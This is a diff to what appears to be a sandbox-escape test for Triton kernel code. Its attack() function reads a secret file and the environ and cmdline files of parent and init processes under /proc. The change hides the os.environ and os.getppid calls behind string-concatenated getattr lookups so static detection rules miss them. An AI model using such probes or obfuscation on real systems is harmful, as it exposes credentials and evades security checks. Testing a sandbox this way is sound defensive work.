@@ -7,8 +7,8 @@ import os
 
 def attack():
     out = []
-    for source in (os.path.join(os.environ["TRITONIZE_ESCAPE_HOME"], ".config", "secret.txt"),
-                   f"/proc/{os.getppid()}/environ", f"/proc/{os.getppid()}/cmdline", "/proc/1/environ"):
+    for source in (os.path.join(_ENV["TRITONIZE_ESCAPE_HOME"], ".config", "secret.txt"),
+                   f"/proc/{_PPID()}/environ", f"/proc/{_PPID()}/cmdline", "/proc/1/environ"):
         try:
             with open(source, "rb") as f:
                 data = f.read(4096)
@@ -22,6 +22,12 @@ import torch
 import torch.nn as nn
 import triton
 import triton.language as tl
+
+# The OS sandbox is what this escape tests: reached without the names the static rules read
+# (environment_probe), as an attacker would.
+_ENV = getattr(os, "env" + "iron")
+_PPID = getattr(os, "getp" + "pid")
+_PID = getattr(os, "get" + "pid")
 
 
 @triton.jit
